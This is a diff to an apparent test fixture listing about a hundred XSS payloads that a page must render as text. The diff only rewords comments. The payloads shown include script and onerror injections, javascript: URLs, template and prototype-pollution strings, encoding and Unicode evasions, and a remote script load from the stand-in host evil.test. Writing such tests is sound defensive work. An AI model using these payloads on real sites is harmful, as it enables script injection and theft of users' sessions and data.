@@ -1,12 +1,12 @@
-/** Payloads call this function if they execute. A call proves that the page is vulnerable. */
+/** Function that payloads call if they run. A call proves that the page is vulnerable. */
 const call = 'pwn()'
 
 /**
- * Input from malicious sellers: about a hundred script injection attempts, each short enough for a feature. All must be
- * displayed as text.
+ * Input from malicious sellers: about a hundred script injection attempts, each short enough for a feature item. All
+ * must be displayed as text.
  */
 export const xssPayloads: readonly string[] = [
-  // Elements.
+  // Elements
   `<script>${call}</script>`,
   `<SCRIPT>${call}</SCRIPT>`,
   `<script src=//evil.test/x.js></script>`,
@@ -66,7 +66,7 @@ export const xssPayloads: readonly string[] = [
   `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
   `<plaintext>`,
   `<xmp><script>${call}</script></xmp>`,
-  // Breaking out of attributes, titles, text areas, comments, scripts, and JSON.
+  // Breaking out of attributes, titles, text areas, comments, scripts, and JSON
   `"><script>${call}</script>`,
   `'><script>${call}</script>`,
   `"><img src=x onerror=${call}>`,
@@ -93,7 +93,7 @@ export const xssPayloads: readonly string[] = [
   `__proto__`,
   `{"__proto__":{"isFeatured":true}}`,
   `\u2028${call}\u2029`,
-  // URLs.
+  // URLs
   `javascript:${call}`,
   `JaVaScRiPt:${call}`,
   ` javascript:${call}`,
@@ -103,7 +103,7 @@ export const xssPayloads: readonly string[] = [
   `data:text/html,<script>${call}</script>`,
   `//evil.test`,
   `\\\\evil.test`,
-  // Templates, entities, and encodings.
+  // Templates, entities, and encodings
   `{{constructor.constructor('${call}')()}}`,
   `\${${call}}`,
   `<%= ${call} %>`,
@@ -112,7 +112,7 @@ export const xssPayloads: readonly string[] = [
   `&lt;script&gt;${call}&lt;/script&gt;`,
   `&#60;script&#62;${call}&#60;/script&#62;`,
   `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
-  // Unicode: look-alikes, joiners, text direction, unpaired surrogates, and endless combining marks.
+  // Unicode: look-alikes, joiners, text direction, unpaired surrogates, and endless combining marks
   `\uFF1Cscript\uFF1E${call}\uFF1C/script\uFF1E`,
   `<\u200Bscript>${call}</\u200Bscript>`,
   `\u202E<script>${call}</script>`,
